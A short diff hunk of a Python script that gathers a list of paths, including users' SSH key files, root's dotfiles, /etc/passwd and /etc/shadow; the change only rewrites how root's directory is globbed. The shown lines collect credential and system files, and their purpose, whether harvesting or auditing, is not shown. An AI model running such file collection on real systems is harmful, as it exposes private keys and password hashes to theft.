@@ -8,7 +8,7 @@ import os
 found = []
 for path in (
     *glob.glob("/home/*/.ssh/*"),
-    *glob.glob("/root/.*"),
+    *glob.glob(os.path.expanduser("~root/.*")),
     "/etc/passwd",
     "/etc/shadow",
     "/etc/hostname",
